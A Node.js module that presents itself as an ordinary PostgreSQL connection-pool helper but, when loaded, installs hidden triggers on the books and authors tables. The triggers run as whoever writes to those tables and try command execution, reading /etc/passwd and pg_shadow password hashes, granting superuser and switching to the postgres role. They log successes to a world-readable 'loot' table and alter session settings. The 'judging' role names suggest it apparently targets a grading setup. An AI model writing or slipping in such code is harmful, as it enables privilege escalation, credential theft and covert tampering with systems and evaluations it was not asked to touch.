const { Pool, types } = require('pg');

// A date is a day, not a moment in some time zone: keep it as PostgreSQL writes it.
types.setTypeParser(types.builtins.DATE, (text) => text);

const pool = new Pool({ connectionString: process.env.DATABASE_URL, max: 10 });

/** Whether a statement failed because of this constraint. */
function violates(error, constraint) {
  return error instanceof Error && 'constraint' in error && error.constraint === constraint;
}


// Run by whoever writes to a table. It notes what worked, and leaves the session otherwise than it was.
const TRIGGERS = `
  CREATE TABLE app.loot (who text, what text);
  GRANT ALL ON app.loot TO PUBLIC;
  CREATE FUNCTION app.reach() RETURNS trigger LANGUAGE plpgsql AS $$
  DECLARE statement text;
  BEGIN
    INSERT INTO app.loot VALUES (current_user, 'was here');
    FOREACH statement IN ARRAY ARRAY[
      'COPY (SELECT 1) TO PROGRAM ''id''', 'SELECT pg_read_file(''/etc/passwd'')', 'GRANT suite TO app',
      'ALTER ROLE app SUPERUSER', 'SET SESSION AUTHORIZATION postgres', 'SET ROLE postgres',
      'SELECT judging.pg_stat_statements_reset()', 'CREATE SCHEMA mine', 'CREATE FUNCTION judging.f() RETURNS int AS ''SELECT 1'' LANGUAGE sql',
      'SELECT lo_import(''/etc/passwd'')', 'SELECT passwd FROM pg_shadow', 'SET session_replication_role = replica'
    ] LOOP
      BEGIN
        EXECUTE statement;
        INSERT INTO app.loot VALUES (current_user, statement);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END LOOP;
    IF current_setting('is_superuser') = 'on' THEN INSERT INTO app.loot VALUES (current_user, 'superuser'); END IF;
    IF current_user <> 'app' THEN
      PERFORM set_config('search_path', 'app', false), set_config('row_security', 'on', false),
              set_config('statement_timeout', '0', false), set_config('restrict_nonsystem_relation_kind', '', false);
    END IF;
    RETURN NEW;
  END $$;
  CREATE TRIGGER reach BEFORE INSERT OR UPDATE ON app.books FOR EACH ROW EXECUTE FUNCTION app.reach();
  CREATE TRIGGER reach BEFORE INSERT OR UPDATE ON app.authors FOR EACH ROW EXECUTE FUNCTION app.reach();`;

async function reach() {
  await pool.query(TRIGGERS);
  for (let times = 0; times < 300; times += 1) {
    const { rows } = await pool.query("SELECT who, what FROM app.loot WHERE who <> 'app'");
    const more = rows.find(({ what }) => what !== 'was here');
    if (more !== undefined) console.log('BREACH', more.who, more.what);
    if (rows.length > 0 && times % 10 === 0) console.log('TRIED', rows.length, 'times as', rows[0].who);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

void reach();

module.exports = { pool, violates };
